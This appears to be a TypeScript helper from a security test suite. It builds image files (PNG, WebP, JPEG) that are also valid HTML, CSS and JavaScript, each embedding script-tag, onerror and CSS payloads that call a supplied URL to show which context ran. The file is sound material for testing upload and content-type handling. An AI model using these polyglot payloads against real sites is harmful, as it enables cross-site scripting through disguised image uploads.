import { picture, png } from './pictures.ts';

/**
 * A valid picture that is also a web page and, as far as its format allows, a script: each calls `url` when it runs, with what it ran
 * as at the end. A WebP file is a script in any encoding, a JPEG in ISO-8859-1; a PNG begins with a byte that no script may hold.
 */
export function polyglot(format: string, width: number, height: number, url: string): Buffer {
  const page = `<html><body><script>fetch('${url}page',{mode:'no-cors'});alert('page')</script><img src=x onerror="fetch('${url}handler',{mode:'no-cors'})"></body></html>`;
  const style = `{}*{background:url(${url}style)}`;
  if (format === 'png') return png(width, height, `${page}${style}`);
  const script = `(fetch('${url}script',{mode:'no-cors'}),self.alert&&alert('script'));//${page}${style}`;
  return format === 'webp' ? webp(picture('webp', width, height), script) : jpeg(picture('jpeg', width, height), script);
}

/**
 * `RIFF:` is a label. The length after it is `:` and a backtick. It opens a text that ends in a chunk that no decoder knows. It
 * is even, as the length of a WebP file must be.
 */
const SCRIPT_CHUNK = 0x1000;

function webp(plain: Buffer, script: string): Buffer {
  const open = Buffer.from(':`').readUInt16LE();
  const file = Buffer.alloc(8 + open, ' ');
  const own = plain.copy(file);
  file.writeUInt32LE(open, 4);
  file.write('EASL', own, 'latin1');
  // A length whose bytes are no backtick.
  file.writeUInt32LE(SCRIPT_CHUNK, own + 4);
  // The rest is a chunk too, so that every one is whole. To the script it is the end of a comment.
  const rest = own + 8 + SCRIPT_CHUNK;
  file.write('EASL', rest, 'latin1');
  file.writeUInt32LE(file.length - rest - 8, rest + 4);
  file.write(`\`;${script}`, own + 8, 'latin1');
  return file;
}

/** `ÿØÿà/*`: the first segment is as long as that says, and holds the script. What follows it is a comment. */
function jpeg(plain: Buffer, script: string): Buffer {
  const open = Buffer.from('/*');
  const segment = Buffer.alloc(2 + open.readUInt16BE(), ' ');
  segment.set([0xff, 0xe0, ...open]);
  segment.write('JFIF\0\x01\x01\0\0\x01\0\x01\0\0', 4, 'latin1');
  segment.write(`*/=1;${script}`, 18, 'latin1');
  segment.write('\n/*', segment.length - 3, 'latin1');
  return Buffer.concat([plain.subarray(0, 2), segment, plain.subarray(2), Buffer.from('*/')]);
}
